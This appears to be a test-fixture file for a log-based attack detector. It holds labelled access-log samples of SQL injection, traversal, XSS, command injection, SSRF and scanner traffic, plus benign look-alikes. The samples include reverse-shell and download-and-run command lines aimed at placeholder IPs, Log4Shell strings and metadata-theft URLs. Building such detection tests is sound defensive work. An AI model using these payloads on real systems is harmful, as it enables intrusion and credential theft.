import type { LogCategory } from '../../../../src-main/contract/logs/logs';
import type { LogRecord } from '../../../../src-main/domain/logs/logRecord';

/** A combined-format request as a parser gives it: raw, still URL-encoded. */
export function request(fields: Partial<LogRecord> = {}): LogRecord {
  return {
    format: 'combined',
    malformed: false,
    time: Date.UTC(2026, 10, 23, 14, 15, 2),
    ip: '203.0.113.7',
    method: 'GET',
    path: '/',
    query: null,
    status: 200,
    userAgent: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36',
    referrer: null,
    body: null,
    message: null,
    ...fields,
  };
}

/** An application or system log line (syslog, JSON lines): a message and no request. */
export function logMessage(message: string, fields: Partial<LogRecord> = {}): LogRecord {
  return request({ format: 'syslog', method: null, path: null, status: null, userAgent: null, message, ...fields });
}

export interface Sample {
  category: LogCategory;
  /** Where the payload comes from and which variant it is. */
  note: string;
  record: LogRecord;
}

const q = (query: string, note: string, category: LogCategory): Sample => ({ category, note, record: request({ path: '/index.php', query }) });
const p = (path: string, note: string, category: LogCategory): Sample => ({ category, note, record: request({ path, status: 404 }) });
const ua = (userAgent: string, note: string): Sample => ({ category: 'scanner', note, record: request({ userAgent }) });

/**
 * Attacks as they appear in access and application logs. Payloads from OWASP WSTG (testing for SQL
 * injection, path traversal, XSS, command injection, SSRF), PayloadsAllTheThings and the payloads
 * and user agents sqlmap, nikto and the other scanners document; each in its logged (encoded) form.
 */
export const attacks: Sample[] = [
  // SQL injection
  q("id=1%27%20or%20%271%27%3D%271", "WSTG classic ' or '1'='1, URL-encoded", 'sqli'),
  q("id=1'+OR+1=1--+", "' OR 1=1-- with + spaces, mixed case", 'sqli'),
  q('user=%22%20or%20%22%22%3D%22', 'PATT " or ""="', 'sqli'),
  q('id=-1+UNION+SELECT+1,2,3--', 'WSTG union select, + spaces', 'sqli'),
  q('id=1%2527%20UNION%20SELECT%20NULL,NULL--', 'double-encoded quote %2527 then union select', 'sqli'),
  q('id=1/**/UNION/**/SELECT/**/password/**/FROM/**/users', 'union select with /**/ comments for spaces', 'sqli'),
  q('id=1%20UnIoN%20SeLeCt%20username,password%20FrOm%20users', 'mixed-case union select', 'sqli'),
  q('id=1%20UNION%20ALL%20SELECT%20NULL%2CNULL%2CCONCAT(0x7176627a71%2C0x4e4d6b54%2C0x716b6a7071)--%20-', 'sqlmap UNION ALL SELECT with CONCAT(0x...)', 'sqli'),
  q('id=1%20AND%205231%3D5231', 'sqlmap boolean-based AND [RANDNUM]=[RANDNUM]', 'sqli'),
  q("id=1'%20AND%20(SELECT%204251%20FROM%20(SELECT(SLEEP(5)))aLpN)--%20aBcD", 'sqlmap time-based MySQL >= 5.0.12 AND time-based blind (query SLEEP)', 'sqli'),
  q("id=1';%20WAITFOR%20DELAY%20'0:0:5'--", 'sqlmap stacked queries MSSQL WAITFOR DELAY', 'sqli'),
  q('id=1)%20AND%201234%3D(SELECT%201234%20FROM%20PG_SLEEP(5))%20AND%20(5678%3D5678', 'sqlmap PostgreSQL time-based PG_SLEEP', 'sqli'),
  q('id=1%20AND%202345%3DBENCHMARK(5000000%2CMD5(0x41424344))', 'sqlmap MySQL BENCHMARK', 'sqli'),
  q('id=1;%20DROP%20TABLE%20users--', 'stacked ; DROP TABLE', 'sqli'),
  q("name=x';EXEC%20xp_cmdshell('dir')--", 'MSSQL stacked xp_cmdshell', 'sqli'),
  q('id=1+UNION+SELECT+table_name+FROM+information_schema.tables', 'schema enumeration through information_schema', 'sqli'),
  q("file=1'+AND+1=0+UNION+SELECT+LOAD_FILE('/etc/passwd')--", 'MySQL LOAD_FILE', 'sqli'),
  q("id=1+INTO+OUTFILE+'/var/www/html/s.php'", 'MySQL INTO OUTFILE web shell', 'sqli'),
  q('id=1%20AND%20EXTRACTVALUE(1%2CCONCAT(0x5c%2C0x7176627a71%2C(SELECT%20(ELT(1=1%2C1)))))', 'sqlmap error-based EXTRACTVALUE', 'sqli'),
  q("user=admin'%20AND%201=CONVERT(int,@@version)--", 'MSSQL error-based CONVERT(int,@@version)', 'sqli'),
  q('id=1%20AND%20ASCII(SUBSTRING((SELECT%20password%20FROM%20users%20LIMIT%201),1,1))>64', 'boolean blind ASCII(SUBSTRING((SELECT', 'sqli'),
  q('id=1%20ORDER%20BY%2010--', 'column count probe ORDER BY 10--', 'sqli'),
  q('id=1%20and%20username%3D0x61646d696e', 'hex-encoded string literal for admin', 'sqli'),
  q("name=x'+AND+username=CHAR(97,100,109,105,110)--", 'string spelled with CHAR() codes', 'sqli'),
  { category: 'sqli', note: "login form body admin'-- (+ spaces)", record: request({ method: 'POST', path: '/login', body: "username=admin'--&password=x" }) },
  { category: 'sqli', note: 'form body with HTML entities &#39; or &#39;1&#39;=&#39;1', record: request({ method: 'POST', path: '/search', body: 'q=&#39; OR &#39;1&#39;=&#39;1' }) },
  { category: 'sqli', note: 'time-based in the user agent (sqlmap --level 3 tests headers)', record: request({ userAgent: "Mozilla/5.0' AND SLEEP(5) AND 'a'='a" }) },
  { category: 'sqli', note: 'JSON body', record: request({ format: 'json', method: 'POST', path: '/api/items', body: '{"id":"1 UNION SELECT password FROM users"}' }) },

  // Path traversal
  p('/../../../../etc/passwd', 'plain ../ in the path (curl --path-as-is)', 'path-traversal'),
  p('/static/..%2f..%2f..%2fetc%2fpasswd', 'encoded slashes', 'path-traversal'),
  p('/%2e%2e/%2e%2e/%2e%2e/etc/passwd', 'encoded dots', 'path-traversal'),
  p('/%252e%252e%252f%252e%252e%252fetc%252fpasswd', 'double-encoded %252e%252e%252f', 'path-traversal'),
  p('/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd', 'CVE-2021-41773 Apache 2.4.49', 'path-traversal'),
  p('/app/..;/manager/html', 'Tomcat path parameter ..;/ to reach the manager', 'path-traversal'),
  p('/%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd', 'overlong UTF-8 %c0%ae', 'path-traversal'),
  q('file=....//....//....//etc/passwd', 'filter bypass ....//', 'path-traversal'),
  q('page=..%5c..%5c..%5cwindows%5cwin.ini', 'Windows ..\\ encoded', 'path-traversal'),
  q('file=C:/Windows/win.ini', 'absolute Windows path', 'path-traversal'),
  q('lang=../../../../proc/self/environ', 'LFI to /proc/self/environ', 'path-traversal'),
  q('page=php://filter/convert.base64-encode/resource=index.php', 'PHP filter wrapper', 'path-traversal'),
  q('next=..%2F..%2F..%2Fetc%2Fpasswd', 'several ../ in a redirect value', 'path-traversal'),

  // Cross-site scripting
  q('q=%3Cscript%3Ealert(1)%3C%2Fscript%3E', 'script tag, URL-encoded', 'xss'),
  q('q=%253Cscript%253Ealert(document.cookie)%253C/script%253E', 'double-encoded script tag', 'xss'),
  q('q=<ScRiPt>alert(%27XSS%27)</sCrIpT>', 'mixed-case script tag', 'xss'),
  q('name=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E', 'img onerror', 'xss'),
  q('q=%3Csvg%2Fonload%3Dalert(1)%3E', 'svg onload with / separator', 'xss'),
  q('url=javascript:alert(document.domain)', 'javascript: URL', 'xss'),
  q('q=%22%3E%3Cbody%20onload%3Dalert(1)%3E', 'attribute break-out then body onload', 'xss'),
  q('q=%3Ca%20href%3D%22jav%26%23x09%3Bascript%3Aalert(1)%22%3E', 'PATT tab entity inside javascript:', 'xss'),
  q('q=&lt;script&gt;alert(1)&lt;/script&gt;', 'HTML entities', 'xss'),
  q('q=%3Cdetails%20open%20ontoggle%3Dalert(1)%3E', 'details ontoggle', 'xss'),
  q('q=%22-alert(1)-%22', 'PATT break out of a JS string', 'xss'),
  q('q=%3Cx%20onclick%3Dalert%60XSS%60%3E', 'unknown tag with onclick and backtick call', 'xss'),
  { category: 'xss', note: 'in the referrer', record: request({ referrer: 'https://example.com/"><script>alert(1)</script>' }) },
  { category: 'xss', note: 'in the user agent', record: request({ userAgent: '<script>alert(document.cookie)</script>' }) },

  // Command injection
  q('ip=127.0.0.1;cat%20/etc/passwd', 'WSTG ; cat /etc/passwd', 'command-injection'),
  q('host=8.8.8.8|id', 'pipe to id', 'command-injection'),
  q('cmd=%24(whoami)', '$(whoami)', 'command-injection'),
  q('file=%60id%60', 'backticks `id`', 'command-injection'),
  q('ip=127.0.0.1%20%26%26%20whoami', '&& whoami, encoded', 'command-injection'),
  q('q=x;nc%20-e%20/bin/sh%2010.0.0.1%204444', 'netcat reverse shell nc -e', 'command-injection'),
  q('x=;cat${IFS}/etc/passwd', '${IFS} for spaces', 'command-injection'),
  { category: 'command-injection', note: 'PATT bash reverse shell in a JSON body', record: request({ format: 'json', method: 'POST', path: '/api/run', body: '{"cmd":"bash -i >& /dev/tcp/10.0.0.1/4242 0>&1"}' }) },
  { category: 'command-injection', note: 'Log4Shell in the user agent (CVE-2021-44228)', record: request({ userAgent: '${jndi:ldap://198.51.100.23:1389/Exploit}' }) },
  q('x=%24%7B%24%7B%3A%3A-j%7D%24%7B%3A%3A-n%7D%24%7B%3A%3A-d%7D%24%7B%3A%3A-i%7D%3A%24%7B%3A%3A-l%7D%24%7B%3A%3A-d%7D%24%7B%3A%3A-a%7D%24%7B%3A%3A-p%7D%3A%2F%2F198.51.100.23%2Fa%7D', 'Log4Shell with ${::-j} obfuscation, encoded', 'command-injection'),
  { category: 'command-injection', note: 'Spring4Shell class loader (CVE-2022-22965)', record: request({ method: 'POST', path: '/app', body: 'class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di' }) },
  q('s=/Index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP', 'ThinkPHP 5 invokefunction PoC', 'command-injection'),
  { category: 'command-injection', note: 'Shellshock in the user agent', record: request({ path: '/cgi-bin/status', userAgent: '() { :; }; /bin/bash -c "cat /etc/passwd"' }) },
  { category: 'command-injection', note: 'downloader in a form body', record: request({ method: 'POST', path: '/ping', body: 'addr=1.1.1.1;wget+http://203.0.113.5/x.sh+-O+/tmp/x;sh+/tmp/x' }) },

  // SSRF
  q('url=http://169.254.169.254/latest/meta-data/iam/security-credentials/', 'AWS metadata', 'ssrf'),
  q('url=http://metadata.google.internal/computeMetadata/v1/', 'GCP metadata', 'ssrf'),
  q('url=http%253A%252F%252F169.254.169.254%252Flatest', 'double-encoded metadata URL', 'ssrf'),
  q('url=http://127.0.0.1:22/', 'loopback port probe', 'ssrf'),
  q('url=http://localhost/admin', 'localhost admin', 'ssrf'),
  q('url=http://[::1]:80/', 'IPv6 loopback', 'ssrf'),
  q('url=http://0.0.0.0:8080/', '0.0.0.0', 'ssrf'),
  q('url=file:///etc/passwd', 'file:// scheme', 'ssrf'),
  q('url=gopher://127.0.0.1:6379/_INFO', 'gopher to Redis', 'ssrf'),
  q('url=dict://127.0.0.1:11211/stat', 'dict:// to memcached', 'ssrf'),
  { category: 'ssrf', note: 'JSON body webhook to loopback', record: request({ format: 'json', method: 'POST', path: '/api/webhooks', body: '{"webhook":"http://127.0.0.1:8500/v1/agent/self"}' }) },

  // Scanners
  ua('sqlmap/1.7.2#stable (https://sqlmap.org)', 'sqlmap default'),
  ua('Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)', 'nikto'),
  ua('Nuclei - Open-source project (github.com/projectdiscovery/nuclei)', 'nuclei'),
  ua('Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)', 'nmap NSE'),
  ua('masscan/1.3 (https://github.com/robertdavidgraham/masscan)', 'masscan'),
  ua('Mozilla/5.0 zgrab/0.x', 'zgrab'),
  ua('gobuster/3.6', 'gobuster'),
  ua('DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)', 'DirBuster'),
  ua('WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)', 'wpscan'),
  ua('Mozilla/5.0 (compatible; Acunetix Web Vulnerability Scanner)', 'acunetix'),
  ua('Nessus SOAP v0.0.1 (Nessus.org)', 'nessus'),
  ua('Mozilla/5.0 [en] (X11, U; OpenVAS-VT 22.4.1)', 'openvas'),
  ua('w3af.org', 'w3af'),
  ua('feroxbuster/2.10.1', 'feroxbuster'),
  ua('Fuzz Faster U Fool v2.1.0-dev', 'ffuf'),
  ua('Mozilla/4.0 (Hydra)', 'hydra'),
  q('x=http://k3x9a2.oastify.com', 'Burp Collaborator callback (oastify.com)', 'scanner'),

  // Sensitive files
  p('/.env', '.env', 'sensitive-file'),
  p('/%2e%65nv', '.env, encoded', 'sensitive-file'),
  p('/.git/config', '.git/config', 'sensitive-file'),
  p('/.git/HEAD', '.git/HEAD', 'sensitive-file'),
  p('/.GIT/CONFIG', '.git/config, upper case', 'sensitive-file'),
  p('/wp-config.php', 'wp-config.php', 'sensitive-file'),
  p('/wp-config.php.bak', 'wp-config backup', 'sensitive-file'),
  p('/.aws/credentials', 'AWS credentials', 'sensitive-file'),
  p('/.ssh/id_rsa', 'SSH key', 'sensitive-file'),
  p('/server-status', 'Apache server-status', 'sensitive-file'),
  p('/phpinfo.php', 'phpinfo', 'sensitive-file'),
  p('/.DS_Store', '.DS_Store', 'sensitive-file'),
  p('/backup.sql', 'SQL dump', 'sensitive-file'),
  p('/.htpasswd', '.htpasswd', 'sensitive-file'),
  p('/web.config', 'IIS web.config', 'sensitive-file'),

  // Authentication failures
  { category: 'auth-failure', note: '401 on login', record: request({ method: 'POST', path: '/login', status: 401 }) },
  { category: 'auth-failure', note: '403', record: request({ path: '/admin', status: 403 }) },
  { category: 'auth-failure', note: 'OpenSSH', record: logMessage('sshd[2219]: Failed password for root from 203.0.113.9 port 52311 ssh2') },
  { category: 'auth-failure', note: 'OpenSSH unknown user', record: logMessage('sshd[2219]: Invalid user admin from 203.0.113.9 port 4242') },
  { category: 'auth-failure', note: 'PAM', record: logMessage('sshd[2219]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=203.0.113.9') },
  { category: 'auth-failure', note: 'SQL Server', record: logMessage("Login failed for user 'sa'. Reason: Password did not match that for the login provided.") },
  { category: 'auth-failure', note: 'JSON app log', record: logMessage('invalid password for user alice', { format: 'json' }) },

  // A line no format fitted: every rule reads the whole line.
  { category: 'sqli', note: 'unparsed access line', record: logMessage('10.1.2.3 - - "GET /item.php?id=1%20UNION%20SELECT%20password%20FROM%20users HTTP/1.1" 200 sqlmap/1.7.2#stable', { format: 'text', ip: null, time: null }) },
  { category: 'scanner', note: 'unparsed access line with a scanner', record: logMessage('10.1.2.3 - - "GET / HTTP/1.1" 200 "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)"', { format: 'text', ip: null, time: null }) },

  // Per-line signals
  { category: 'rate-limit', note: '429', record: request({ path: '/api/search', status: 429 }) },
  { category: 'error-spike', note: '500', record: request({ path: '/api/orders', status: 500 }) },
  { category: 'error-spike', note: '503', record: request({ path: '/', status: 503 }) },
];

/** Look-alikes a busy site logs all day: none may be flagged. */
export const benign: { note: string; record: LogRecord }[] = [
  { note: 'blog post about selecting from the menu', record: request({ path: '/blog/how-to-select-from-the-menu' }) },
  { note: 'search for union station selection', record: request({ path: '/search', query: 'q=union+station+selection' }) },
  { note: 'search for drop table tennis', record: request({ path: '/search', query: 'q=drop+table+tennis' }) },
  { note: 'same-site redirect to a relative ../docs', record: request({ path: '/login', query: 'next=..%2Fdocs' }) },
  { note: 'name Orlando (OR inside a word)', record: request({ path: '/api/users/1', query: 'name=Orlando' }) },
  { note: 'Accept: */* logged in a message', record: logMessage('request headers: Accept: */*, Accept-Encoding: gzip', { format: 'json' }) },
  { note: '*/* as a query value', record: request({ path: '/api/files', query: 'accept=*/*' }) },
  { note: 'script.js', record: request({ path: '/static/script.js' }) },
  { note: '/javascript/app.js', record: request({ path: '/javascript/app.js' }) },
  { note: 'WordPress content', record: request({ path: '/wp-content/themes/twentytwentyfour/style.css' }) },
  { note: 'WordPress upload', record: request({ path: '/wp-content/uploads/2024/05/photo.jpg' }) },
  { note: 'curl user agent', record: request({ userAgent: 'curl/8.0.1' }) },
  { note: 'favicon not found', record: request({ path: '/favicon.ico', status: 404 }) },
  { note: 'search with and', record: request({ path: '/search', query: 'q=salt+and+pepper' }) },
  { note: 'apostrophe in a name', record: request({ path: '/api/authors', query: "name=O'Reilly+and+sons" }) },
  { note: 'email with an apostrophe', record: request({ path: '/signup', query: "email=o'brien%40example.com" }) },
  { note: 'field list with pipes', record: request({ path: '/api/users', query: 'fields=name|id|email' }) },
  { note: 'search about sleep', record: request({ path: '/search', query: 'q=how+to+use+sleep+in+bash' }) },
  { note: 'pricing plan selection', record: request({ path: '/pricing', query: 'plan=select&period=yearly' }) },
  { note: 'docs page', record: request({ path: '/docs/javascript-guide' }) },
  { note: 'campaign parameters', record: request({ path: '/', query: 'utm_source=newsletter&utm_medium=email&utm_campaign=2026-11' }) },
  { note: 'external redirect target', record: request({ path: '/out', query: 'url=https%3A%2F%2Fexample.com%2Faccount%3Fid%3D1' }) },
  { note: 'search-engine referrer', record: request({ referrer: 'https://www.google.com/search?q=firebreak+incident+response' }) },
  { note: 'iPhone Safari', record: request({ userAgent: 'Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1' }) },
  { note: 'Googlebot', record: request({ userAgent: 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)' }) },
  { note: 'sort order', record: request({ path: '/api/orders', query: 'sort=-created_at&order=desc&page=2' }) },
  { note: 'login success message', record: logMessage('sshd[2219]: Accepted publickey for deploy from 198.51.100.4 port 50022 ssh2') },
  { note: 'app message', record: logMessage('order 8812 shipped and invoiced', { format: 'json' }) },
  { note: 'JSON body', record: request({ format: 'json', method: 'POST', path: '/api/comments', body: '{"text":"Great post! I\'d select the second option and drop the first."}' }) },
  { note: 'SQL an ORM logs', record: logMessage('Executed (default): SELECT id FROM orders WHERE shop = 3 UNION SELECT id FROM archived_orders WHERE shop = 3', { format: 'json' }) },
  { note: 'stack trace with relative paths', record: logMessage('TypeError: x is undefined at render (../../src/views/cart.js:41:7)', { format: 'json' }) },
  { note: 'configuration message naming a system file', record: logMessage('resolver: reading /etc/hosts and /etc/resolv.conf', { format: 'json' }) },
  { note: 'validation message', record: logMessage('Invalid user input: name must not be empty', { format: 'json' }) },
  { note: 'template render message', record: logMessage('rendered layout.html with 3 <script> tags', { format: 'json' }) },
  { note: 'wallet address', record: request({ path: '/api/balance', query: 'wallet=0x742d35Cc6634C0532925a3b844Bc454e4438f44e' }) },
  { note: 'hex colour', record: request({ path: '/theme', query: 'color=0xff00ff&char=abc' }) },
  { note: 'a template placeholder', record: request({ path: '/api/templates', query: 'text=Hello+${name}' }) },
  { note: 'system status page', record: request({ path: '/system/status', query: 'view=system' }) },
  { note: 'matrix parameter', record: request({ path: '/shop;jsessionid=1A2B3C4D' }) },
  { note: 'well-known path', record: request({ path: '/.well-known/security.txt' }) },
];
